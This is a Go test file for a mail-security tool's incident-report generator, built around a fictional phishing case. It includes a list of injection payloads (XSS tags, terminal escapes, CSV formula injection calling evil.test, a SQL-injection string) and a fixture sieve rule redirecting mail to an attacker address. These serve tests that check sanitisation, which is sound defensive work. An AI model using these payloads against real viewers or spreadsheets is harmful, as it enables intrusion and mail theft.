package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"hisseki/analyzer"
	"hisseki/internal/words"
	"hisseki/ledger"
)

var update = flag.Bool("update", false, "write the golden files anew")

var (
	tokyo = time.FixedZone("JST", 9*60*60)
	begin = time.Date(2026, 11, 17, 10, 12, 0, 0, tokyo)
)

const (
	victim = "bando@example.jp"
	second = "sato@example.jp"
	thief  = "203.0.113.77"
	lure   = "https://file-kakunin.test/d/7Qx2?id=41"
)

// mail is one of the attack.
func mail(id int64, sender string, at time.Time, subject string) *analyzer.Record {
	return &analyzer.Record{ID: id,
		Envelope: analyzer.Envelope{Time: at.UTC(), Host: "mx.example.jp",
			QueueID: fmt.Sprintf("4Cabc%03dXYz", id), Sender: sender,
			Client: netip.MustParseAddr(thief)},
		Subject: subject, MessageID: fmt.Sprintf("<%d@mail.test>", id), URLs: []string{lure},
		Files: []string{"確認 書類.zip " + strings.Repeat("ab", 32) + " archive",
			"logo.png " + strings.Repeat("cd", 32) + " picture"},
		Verdict: analyzer.Verdict{Action: analyzer.Hold, Would: analyzer.Hold, Points: 9.6,
			Evidence: []analyzer.Evidence{
				{Signal: "network-new", Points: 2.57, Observed: "203.0.113.0/24",
					Usual: "2 known networks", Text: "sent from 203.0.113.0/24, new to the whole organisation"},
				{Signal: "url-unknown", Points: 1.85, Observed: "file-kakunin.test",
					Usual: "2 known sites", Text: "a link to file-kakunin.test, unknown to this account"},
			}}}
}

// story is a case of two accounts with every fate in it.
func story() *ledger.Scope {
	s := &ledger.Scope{At: begin.Add(3 * time.Hour).UTC(), Fates: map[int64][]ledger.RecipientFate{},
		Incidents: []ledger.Incident{
			{ID: 1, Case: 1, Sender: victim, State: ledger.IncidentOpen, Opened: begin.UTC(), Holds: 12},
			{ID: 2, Case: 1, Sender: second, State: ledger.IncidentConfirmed, By: "alice",
				Reason: "phoned, it was not her", Opened: begin.Add(20 * time.Minute).UTC(),
				Closed: begin.Add(2 * time.Hour).UTC(), Holds: 1}},
		Usual: map[string][]time.Time{}}
	s.Notes = map[int64][]ledger.Note{1: {
		{At: begin.Add(time.Minute).UTC(), Hook: "sieve", Event: ledger.EventOpened, State: ledger.HookDone,
			Output: "/var/vmail/bando/main.sieve: changed in 30 days:\nredirect \"thief@evil.test\";\n"},
		{At: begin.Add(2 * time.Minute).UTC(), Hook: "soc", Event: ledger.EventOpened, State: "due",
			Error: "post event: connection refused"}}}
	fates := []ledger.Fate{ledger.FateDelivered, ledger.FateHeld, ledger.FateDeferred, ledger.FateBounced,
		ledger.FateRecalled, ledger.FateDiscarded, ledger.FateUnknown}
	hosts := []string{"aoki-kensetsu.example", "midori.example.org", "sales.midori.example.org",
		"example.jp", "kawa.example.com"}
	for i := range 14 {
		sender := victim
		if i == 13 {
			sender = second
		}
		m := mail(int64(i+1), sender, begin.Add(time.Duration(i*i)*10*time.Second),
			"【至急】請求書のご確認")
		h := ledger.Hold{ID: int64(i + 1), State: ledger.Held, Incident: 1, Record: m, DefinesCampaign: i > 0}
		for k := range 1 + i%3 {
			fate := fates[i%len(fates)]
			if k > 0 {
				fate = ledger.FateDelivered
			}
			rcpt := fmt.Sprintf("person%d@%s", (i+k)%4, hosts[(i+k)%len(hosts)])
			s.Fates[m.ID] = append(s.Fates[m.ID], ledger.RecipientFate{Journal: m.ID, Recipient: rcpt,
				Fate: fate, At: m.Envelope.Time.Add(2 * time.Second),
				Delivery: ledger.Delivery{Reply: "250 2.0.0 Ok: queued"}})
			m.Envelope.Recipients = append(m.Envelope.Recipients, rcpt)
		}
		if i == 0 { // it had passed, and was asked back in vain
			h.State, h.Recalled = ledger.Gone, begin
			m.Verdict.Action = analyzer.Pass
		}
		s.Holds = append(s.Holds, h)
	}
	s.Lures = []ledger.Lure{{Pattern: "file-kakunin.test", Mails: 13,
		First: s.Holds[1].Record.Envelope.Time, Last: s.Holds[13].Record.Envelope.Time, Points: 1.85}}
	early := mail(90, victim, begin.Add(-50*time.Hour), "Re: お見積りの件")
	early.Verdict.Points = 2.1
	s.Suspects = []ledger.Suspect{{Record: early, Points: 9.1,
		Traits: []analyzer.Trait{analyzer.SharedText, analyzer.SharedNetwork}}}
	s.Fates[90] = []ledger.RecipientFate{{Journal: 90, Recipient: "mori@kawa.example.com",
		Fate: ledger.FateDelivered, At: early.Envelope.Time.Add(time.Second)}}
	for i := range 9 {
		s.Logins = append(s.Logins, analyzer.Login{At: begin.Add(time.Duration(i-30) * time.Minute),
			Last: begin.Add(time.Duration(i-30)*time.Minute + 20*time.Second), Count: 3 + i, Sender: victim,
			Client: netip.MustParseAddr(fmt.Sprintf("198.51.100.%d", 10+i)), Result: analyzer.LoginFailure,
			Service: "submission"})
	}
	s.Logins = append(s.Logins,
		analyzer.Login{At: begin.Add(-15 * time.Minute), Last: begin.Add(-15 * time.Minute), Count: 1,
			Sender: victim, Client: netip.MustParseAddr("198.51.100.19"), Result: analyzer.LoginLockout,
			Service: "auth"},
		analyzer.Login{At: begin.Add(-4 * time.Minute), Last: begin.Add(-4 * time.Minute), Count: 1,
			Sender: victim, Client: netip.MustParseAddr(thief), Result: analyzer.LoginSuccess,
			Service: "submission"})
	for day := 1; day <= 20; day++ {
		for n := range 1 + day%3 {
			s.Usual[victim] = append(s.Usual[victim],
				begin.AddDate(0, 0, -day).Add(time.Duration(n*70)*time.Second))
		}
	}
	return s
}

func printed(t *testing.T, s *ledger.Scope, f Format, lang Lang) string {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, New(s), f, Options{Lang: lang, Zone: tokyo}); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestGolden(t *testing.T) {
	for _, f := range Formats {
		for _, lang := range []Lang{English, Japanese} {
			if lang == Japanese && f != Text && f != HTML && f != CSV {
				continue // the same in every language
			}
			path := filepath.Join("testdata", fmt.Sprintf("report.%s.%s", lang, f))
			got := printed(t, story(), f, lang)
			if *update {
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil || got != string(want) {
				t.Errorf("%s differs (%v); look at it and run go test ./report -update", path, err)
			}
		}
	}
}

func TestFigures(t *testing.T) {
	r := New(story())
	want := Count{}
	people := map[string]bool{}
	all := 0
	for _, h := range story().Holds {
		for _, f := range story().Fates[h.Record.ID] {
			all++
			if f.Fate == ledger.FateDelivered {
				want.Reached++
				people[f.Recipient] = true
			}
		}
	}
	if r.Total.Reached != want.Reached || r.Total.All() != all || r.Mails.All() != 14 ||
		r.Reached.People != len(people) {
		t.Errorf("total %+v, mails %+v, reached %+v; want %d deliveries to %d people", r.Total, r.Mails,
			r.Reached, want.Reached, len(people))
	}
	if r.Noticed == nil || r.Noticed.ID != 2 {
		t.Errorf("noticed by %+v, want the first that was held as judged", r.Noticed)
	}
	if r.Logged() {
		t.Error("a fate is unknown, but the log told of all")
	}
	names := []string{}
	for _, c := range r.Companies {
		names = append(names, fmt.Sprint(c.Domain, c.Own))
	}
	if got := strings.Join(names, " "); strings.Count(got, "example.org") != 1 ||
		!strings.Contains(got, "example.jptrue") {
		t.Errorf("companies %s", got)
	}
}

// In mode observe nothing is held: the first mail that enforce would have held is shown.
func TestNoticedInModeObserve(t *testing.T) {
	s := story()
	for i := 1; i < len(s.Holds); i++ {
		s.Holds[i].State, s.Holds[i].Record.Verdict.Action = ledger.Passed, analyzer.Pass
	}
	var b bytes.Buffer
	if err := Write(&b, New(s), "text", Options{Lang: "en", Zone: tokyo}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "mode enforce would have held was sent on 2026-11-17") {
		t.Errorf("it is not said how it was noticed:\n%s", b.String())
	}
}

// Nothing got through: the headline says so, in both languages.
func TestHeadline(t *testing.T) {
	s := story()
	for id, list := range s.Fates {
		for k := range list {
			s.Fates[id][k].Fate = ledger.FateHeld
		}
	}
	r := New(s)
	for lang, want := range map[Lang]string{
		English:  "No mail is known to have got through; 14 mails were stopped.",
		Japanese: "届いたことを確認したメールはありません。14通は送信を止めました。",
	} {
		if got := (text{words.For(lang, tokyo)}).Headline(r); got != want {
			t.Errorf("%s: %s", lang, got)
		}
	}
}

// A report of nothing but an incident prints in every format.
func TestEmpty(t *testing.T) {
	s := &ledger.Scope{At: begin, Incidents: []ledger.Incident{{ID: 3, Case: 3, Sender: victim,
		State: ledger.IncidentEnded, Opened: begin}}}
	for _, f := range Formats {
		for _, lang := range []Lang{English, Japanese} {
			if printed(t, s, f, lang) == "" {
				t.Errorf("%s in %s is empty", f, lang)
			}
		}
	}
	if err := Write(&bytes.Buffer{}, New(s), "pdf", Options{}); err == nil {
		t.Error("an unknown format was printed")
	}
}

// hostile is what a thief may put where text of his choice goes.
var hostile = []string{
	`<script>alert(1)</script><img src=x onerror=alert(1)>`,
	`"><svg/onload=alert(1)>{{.R.Name}}`,
	"\x1b]0;owned\x07\x1b[2J\x1b[31mred",
	"invoice\u202Efdp.exe\u2066\u200b\u0000\u2028",
	`=HYPERLINK("https://evil.test","x")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "　＝1+1",
	"click https://evil.test/now HTTP://EVIL.TEST javascript:alert(1)",
	strings.Repeat("長", 10000), strings.Repeat("a", 10000), "\xff\xfe bad utf-8", "' OR '1'='1\\",
}

func poisoned(evil string) *ledger.Scope {
	s := story()
	for i := range s.Holds {
		m := s.Holds[i].Record
		m.Subject, m.MessageID, m.URLs = evil, evil, []string{"https://lure.test/" + evil, evil}
		m.Files = []string{evil + " " + strings.Repeat("ab", 32) + " archive", evil}
		m.Verdict.Evidence[1].Observed, m.Verdict.Evidence[1].Text = evil, evil
		for k := range s.Fates[m.ID] {
			s.Fates[m.ID][k].Recipient = evil + "@" + evil
			s.Fates[m.ID][k].Delivery.Reply = evil
		}
	}
	s.Incidents[0].Sender, s.Incidents[0].Reason, s.Incidents[0].By = evil, evil, evil
	s.Suspects[0].Record.Subject = evil
	s.Logins[0].Service, s.Logins[0].Sender = evil, evil
	s.Notes[1][0].Output, s.Notes[1][1].Error = evil+"\n"+evil, evil
	return s
}

func TestHostileText(t *testing.T) {
	for _, evil := range hostile {
		for _, f := range Formats {
			out := printed(t, poisoned(evil), f, Japanese)
			name := fmt.Sprintf("%s of %.30q", f, evil)
			for _, bad := range []string{"\x1b", "\u202e", "\u2066", "\u200b", "\x00", "\x07", "\u2028"} {
				if strings.Contains(out, bad) {
					t.Errorf("%s has %q", name, bad)
				}
			}
			if !json.Valid([]byte(out)) && (f == JSON || f == STIX) {
				t.Errorf("%s is no JSON", name)
			}
			most := maxText
			if f == JSON || f == STIX || f == CSVBlock {
				most = maxURL // of values for machines
			}
			if strings.Contains(out, strings.Repeat("長", most+1)) ||
				strings.Contains(out, strings.Repeat("a", most+1)) {
				t.Errorf("%s is not cut", name)
			}
			if f == Text || f == HTML || f == CSV {
				low := strings.ToLower(out)
				if strings.Contains(low, "http://") || strings.Contains(low, "https://") {
					t.Errorf("%s has a link", name)
				}
			}
			switch f {
			case HTML:
				harmlessPage(t, name, out)
			case CSV, CSVBlock:
				harmlessCells(t, name, out)
			}
		}
	}
}

// harmlessPage allows only the elements and attributes of the template.
func harmlessPage(t *testing.T, name, page string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script", "img", "a", "iframe", "object", "embed", "link", "form", "base", "use":
				t.Errorf("%s has <%s>", name, tok.Data)
			}
			for _, a := range tok.Attr {
				if strings.HasPrefix(a.Key, "on") || a.Key == "href" || a.Key == "src" {
					t.Errorf("%s has %s=%q", name, a.Key, a.Val)
				}
			}
		}
	}
}

func harmlessCells(t *testing.T, name, out string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, byteOrderMark))).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("%s: %d rows, %v", name, len(rows), err)
	}
	for _, row := range rows {
		for _, c := range row {
			if strings.ContainsAny(c, "\t\r\n") ||
				strings.ContainsAny(strings.TrimLeft(c, " 　")+".", "=+-@") &&
					strings.IndexAny(strings.TrimLeft(c, " 　"), "=+-@") == 0 {
				t.Errorf("%s has the cell %.40q", name, c)
			}
		}
	}
}

func TestDefang(t *testing.T) {
	for in, want := range map[string]string{
		"https://lure.test/a?b=http://x.test": "hxxps://lure[.]test/a?b=hxxp://x[.]test",
		"HTTP://LURE.TEST":                    "hxxp://LURE[.]TEST",
		"lure.example.org":                    "lure[.]example[.]org",
		"203.0.113.7":                         "203[.]0[.]113[.]7",
		"2001:db8::1":                         "2001[:]db8[:][:]1",
		"ftp://files.test":                    "fxp://files[.]test",
		"https%3A%2F%2Fx.test":                "hxxps%3a%2F%2Fx[.]test",
	} {
		if got := Defang(in); got != want {
			t.Errorf("%s became %s, want %s", in, got, want)
		}
	}
}

// The same report twice is the same bundle; what it refers to is in it.
func TestSTIX(t *testing.T) {
	one, two := printed(t, story(), STIX, English), printed(t, story(), STIX, Japanese)
	if one != two {
		t.Error("the bundle is not deterministic")
	}
	var bundle stixBundle
	if err := json.Unmarshal([]byte(one), &bundle); err != nil {
		t.Fatal(err)
	}
	ids := map[string]bool{}
	patterns := ""
	for _, o := range bundle.Objects {
		if ids[o.ID] || !strings.HasPrefix(o.ID, o.Type+"--") || o.SpecVersion != "2.1" ||
			o.ID[len(o.Type)+16] != '5' {
			t.Errorf("object %s of type %s", o.ID, o.Type)
		}
		ids[o.ID] = true
		patterns += o.Pattern + "\n"
	}
	for _, o := range bundle.Objects {
		for _, ref := range append(o.Refs, o.CreatedBy) {
			if ref != "" && !ids[ref] {
				t.Errorf("%s refers to %s, which is not in the bundle", o.ID, ref)
			}
		}
	}
	for _, want := range []string{"[url:value = '" + lure + "']",
		"[domain-name:value = 'file-kakunin.test']",
		"[ipv4-addr:value = '" + thief + "']",
		"[file:hashes.'SHA-256' = '" + strings.Repeat("ab", 32) + "']"} {
		if strings.Count(patterns, want) != 1 {
			t.Errorf("pattern %s is in the bundle %d times", want, strings.Count(patterns, want))
		}
	}
	if strings.Contains(patterns, strings.Repeat("cd", 32)) {
		t.Error("a picture is to be blocked")
	}
	escaped, _ := stixPattern(&Indicator{Kind: IndicatorURL, Value: `https://x.test/'] OR [\`})
	if escaped != `[url:value = 'https://x.test/\'] OR [\\']` {
		t.Errorf("pattern %s", escaped)
	}
}

// Every step is there in both languages.
func TestSteps(t *testing.T) {
	for _, s := range steps {
		for i := range 2 {
			if s.what[i] == "" || s.how[i] == "" {
				t.Errorf("step %q lacks a language", s.what[0])
			}
		}
	}
}

func TestPhrase(t *testing.T) {
	ja, en := text{words.For(Japanese, nil)}, text{words.For(English, nil)}
	for in, want := range map[string]string{
		"so in 3 of this account's 203 mails": "本人の 203 通中 3 通",
		"fit -0.62":                           "一致度 -0.62",
		"12 alike in 24 h":                    "24 時間に類似 12 通",
		"203.0.113.0/24":                      "203.0.113.0/24",
		"\x1b[1m2 known sites":                "·[1m2 known sites",
	} {
		if got := ja.Phrase(in); got != want {
			t.Errorf("%q became %q, want %q", in, got, want)
		}
	}
	if got := en.Phrase("2 known sites"); got != "2 known sites" {
		t.Errorf("in English %q", got)
	}
}

func TestChart(t *testing.T) {
	s := story()
	c := New(s).Chart
	n := 0
	for _, b := range c.Bars {
		n += b.All()
	}
	if n != len(s.Holds) || len(c.Bars) > maxBars {
		t.Errorf("%d mails in %d bars, want %d", n, len(c.Bars), len(s.Holds))
	}
	// 20 days with 1, 2 or 3 mails within three minutes.
	if c.Days != 20 || c.Usual != 3 || c.Width != 10*time.Minute {
		t.Errorf("usual %d on %d days", c.Usual, c.Days)
	}
	for _, r := range c.Rects() {
		if r.X < chartLeft || r.X+r.W > chartWidth || r.Y < chartTop-0.01 || r.Y+r.H > chartFloor+0.01 {
			t.Errorf("bar outside of the drawing: %+v", r)
		}
	}
	for _, m := range c.Marks() {
		if m.X < chartLeft || m.X > chartWidth {
			t.Errorf("login outside of the drawing: %+v", m)
		}
	}
	// A slow attack over weeks still fits.
	s.Holds[13].Record.Envelope.Time = begin.AddDate(0, 1, 0)
	if c := New(s).Chart; len(c.Bars) > maxBars || c.Width < 12*time.Hour {
		t.Errorf("%d bars of %v", len(c.Bars), c.Width)
	}
}

// Mail that a reviewer let go is in no figure of the attack, but it is named with its sender
// and with who decided.
func TestFreedMailIsNotTheAttacks(t *testing.T) {
	s := story()
	before := New(s)
	h := &s.Holds[2]
	h.State, h.By, h.Reason = ledger.Released, "alice", "he asked them"
	h.Record.Envelope.Sender = "suzuki@example.jp"
	for i := range s.Fates[h.Record.ID] {
		s.Fates[h.Record.ID][i].Fate = ledger.FateDelivered
	}
	r := New(s)
	if len(r.Freed) != 1 || r.Mails.All() != before.Mails.All()-1 {
		t.Fatalf("freed %d, %d mails of the attack, %d before", len(r.Freed), r.Mails.All(), before.Mails.All())
	}
	for _, c := range r.Companies {
		for _, p := range c.People {
			for _, d := range p.Mails {
				if d.Hold == h.Name() {
					t.Errorf("%s got %s", p.Address, d.Hold)
				}
			}
		}
	}
	for _, f := range []Format{Text, HTML, JSON, CSV} {
		text := printed(t, s, f, English)
		for _, want := range []string{"suzuki@example.jp", h.Name()} {
			if !strings.Contains(text, want) {
				t.Errorf("%s does not say %q", f, want)
			}
		}
		if f == CSV && !strings.Contains(text, ",freed-reached,") {
			t.Errorf("csv:\n%s", text)
		}
	}
	h.By = ledger.ByTimer // nobody decided: a delay that ended
	if r := New(s); len(r.Freed) != 0 {
		t.Errorf("%d freed by the timer", len(r.Freed))
	}
}

// A state that the program does not know, as of a damaged store, is shown harmless.
func TestUnknownNamesAreHarmless(t *testing.T) {
	s := story()
	s.Incidents[0].State = "open\x1b[2J"
	s.Notes[1][0].Event = "\x1b]0;x\a"
	for id := range s.Fates {
		for i := range s.Fates[id] {
			s.Fates[id][i].Fate = "gone\x1bfishing"
		}
	}
	for _, f := range []Format{Text, HTML} {
		for _, lang := range []Lang{English, Japanese} {
			if text := printed(t, s, f, lang); strings.ContainsAny(text, "\x1b\a") {
				t.Errorf("%s in %s: %q", f, lang, text[:400])
			}
		}
	}
}

// TestLateMail: of mail that was not judged in time the report says what came of it.
func TestLateMail(t *testing.T) {
	s := story()
	m := s.Holds[0].Record
	m.Late = analyzer.Late{Failure: "no verdict within 5s", Judged: begin}
	waits := mail(91, victim, begin.Add(-time.Hour), "")
	waits.Verdict = analyzer.Verdict{Action: analyzer.Pass, Would: analyzer.Unjudged}
	waits.Late.Content = "no room\x1b[31m"
	gone := *waits
	lost := &gone
	lost.ID, lost.Late.Content = 92, "its content was lost" // as daemon notes it
	for _, r := range []*analyzer.Record{waits, lost} {
		s.Suspects = append(s.Suspects, ledger.Suspect{Record: r, Traits: []analyzer.Trait{analyzer.NotJudged}})
	}
	for _, f := range []Format{Text, HTML} {
		got := printed(t, s, f, English)
		for _, want := range []string{"(passed unjudged, judged later: would have been held)",
			"(passed unjudged, cannot be judged: no room", "(passed unjudged, cannot be judged: its content was lost)"} {
			if n := strings.Count(got, want); n != 1 {
				t.Errorf("%s says %d times %q", f, n, want)
			}
		}
		if strings.Contains(got, "\x1b") {
			t.Errorf("%s has an escape", f)
		}
		for _, want := range []string{"判定されずに通過、後から判定: 保留に相当", "判定不可: its content was lost"} {
			if got := printed(t, s, f, Japanese); !strings.Contains(got, want) {
				t.Errorf("%s in Japanese does not say %s", f, want)
			}
		}
	}
}
